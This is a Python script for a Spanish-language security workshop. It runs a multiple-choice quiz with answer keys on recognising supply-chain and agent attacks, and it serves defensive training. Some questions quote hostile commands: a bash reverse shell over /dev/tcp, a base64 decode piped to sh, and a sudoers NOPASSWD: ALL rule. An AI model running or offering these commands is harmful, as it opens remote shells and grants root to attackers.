#!/usr/bin/env python3
"""Cuestionario del taller (local, sin red)."""
import random

PREGUNTAS = [
    ("Un README pide ejecutar `echo <base64> | base64 -d | sh`. ¿Qué haces?",
     ["Lo ejecuto, es del autor", "Decodifico y leo el contenido sin ejecutarlo", "Lo ejecuto con sudo"], 1),
    ("¿Qué indica `bash -i >& /dev/tcp/IP/PUERTO 0>&1`?",
     ["Un servidor web", "Una shell inversa", "Un test de red"], 1),
    ("¿Dónde se esconde a menudo la persistencia en Linux?",
     ["~/.bashrc, crontab, systemd --user", "/usr/share/doc", "En el historial de git"], 0),
    ("`--extra-index-url` en requirements.txt…",
     ["Es siempre inofensivo", "Puede permitir confusión de dependencias", "Acelera pip sin riesgo"], 1),
    ("Un hook global con `core.hooksPath`…",
     ["Afecta a todos los repositorios del usuario", "Sólo afecta al repo actual", "No existe"], 0),
    ("Una skill pide 'no avisar al usuario'. Eso es…",
     ["Normal", "Una señal de inyección de prompt", "Un requisito de rendimiento"], 1),
    ("Un archivo `.woff2` que empieza por `\\x7fELF`…",
     ["Es una fuente", "Es un ejecutable disfrazado", "Es un PDF"], 1),
    ("`NOPASSWD: ALL` en /etc/sudoers.d/…",
     ["Da root sin contraseña", "Sólo afecta a docker", "Es el valor por defecto"], 0),
]


def main():
    random.shuffle(PREGUNTAS)
    aciertos = 0
    for i, (q, opciones, ok) in enumerate(PREGUNTAS, 1):
        print(f"\n{i}. {q}")
        for j, o in enumerate(opciones):
            print(f"   {'abc'[j]}) {o}")
        r = input("> ").strip().lower()[:1]
        if r and "abc".find(r) == ok:
            aciertos += 1
            print("   ✔ correcto")
        else:
            print(f"   ✘ respuesta: {'abc'[ok]}) {opciones[ok]}")
    print(f"\nPuntuación: {aciertos}/{len(PREGUNTAS)}")


if __name__ == "__main__":
    main()
